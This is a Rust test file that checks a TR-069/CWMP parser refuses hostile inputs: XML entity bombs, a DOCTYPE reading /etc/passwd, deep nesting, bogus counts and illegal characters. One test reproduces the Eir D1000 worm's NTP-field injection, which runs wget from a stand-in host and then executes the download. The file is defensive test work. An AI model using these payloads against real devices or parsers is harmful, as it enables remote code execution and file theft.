//! What was sent on purpose.

use crate::support::envelope;
use crate::{DEVICE, EVENTS, inform, refused, rpc};
use cwmp_codec::{Clause, Level, Rpc, xml};

#[test]
fn cve_2016_10372_eir_d1000_set_ntp_servers() {
    // The worm of 2016 spoke TR-064 to the port of TR-069.
    let document = envelope(
        "<u:SetNTPServers xmlns:u='urn:dslforum-org:service:Time:1'><NewNTPServer1>`cd /tmp;wget http://x/1;sh 1`\
         </NewNTPServer1></u:SetNTPServers>",
    );
    let clause = refused(&document);
    assert_eq!((clause, clause.level()), (Clause::NotCwmp, Level::Foreign));
}

#[test]
fn cve_2013_1664_billion_laughs_and_external_entities() {
    for subset in ["<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", ""] {
        let document = format!("<!DOCTYPE s [{subset}]>{}", envelope("<cwmp:FactoryReset/>"));
        assert_eq!(refused(&document), Clause::Xml(xml::Clause::Doctype));
    }
    let document = envelope("<cwmp:Reboot><CommandKey>&b;</CommandKey></cwmp:Reboot>");
    assert_eq!(refused(&document), Clause::Xml(xml::Clause::EntityDeclared));
}

#[test]
fn cwmp_0_2_2_takes_quadratic_time_for_nested_elements() {
    // 280 KB took five seconds.
    let document = envelope(&"<a>".repeat(100_000));
    let start = std::time::Instant::now();
    assert_eq!(refused(&document), Clause::NotCwmp);
    let nested = envelope(&format!("<cwmp:X>{}", "<a>".repeat(100_000)));
    assert_eq!(refused(&nested), Clause::Xml(xml::Clause::Depth));
    assert!(start.elapsed().as_secs() < 2);
}

#[test]
fn an_array_type_reserves_nothing() {
    for count in ["4294967295", "18446744073709551616", "-1", "", "x"] {
        let events = EVENTS.replace("[1]", &format!("[{count}]"));
        let document = inform(DEVICE, &events, "<ParameterList/>");
        let Rpc::Inform(inform) = rpc(&document) else { panic!() };
        assert_eq!(inform.event.count(), 1, "{count}");
    }
}

#[test]
fn namespaces_are_uris_and_not_prefixes() {
    // the prefix is bound to another URI inside
    let document = envelope("<cwmp:Reboot xmlns:cwmp='urn:x'><CommandKey/></cwmp:Reboot>");
    assert_eq!(refused(&document), Clause::NotCwmp);
    let document = envelope("<x:Reboot><CommandKey/></x:Reboot>");
    assert_eq!(refused(&document), Clause::Xml(xml::Clause::PrefixDeclared));
}

#[test]
fn two_of_everything() {
    for (document, clause) in [
        (envelope("<cwmp:FactoryReset/><cwmp:FactoryReset/>"), Clause::OneRpc),
        (
            envelope("<cwmp:Reboot><CommandKey>a</CommandKey><CommandKey>b</CommandKey></cwmp:Reboot>"),
            Clause::ElementRepeated,
        ),
        (inform(DEVICE, &EVENTS.repeat(2), "<ParameterList/>"), Clause::ElementRepeated),
    ] {
        assert_eq!(refused(&document), clause, "{document}");
    }
}

#[test]
fn references_to_what_is_no_character() {
    for reference in ["&#0;", "&#xD800;", "&#xFFFE;", "&#x110000;", "&#99999999999999999999;"] {
        let document = envelope(&format!("<cwmp:Reboot><CommandKey>{reference}</CommandKey></cwmp:Reboot>"));
        assert_eq!(refused(&document), Clause::Xml(xml::Clause::LegalCharacter), "{reference}");
    }
}
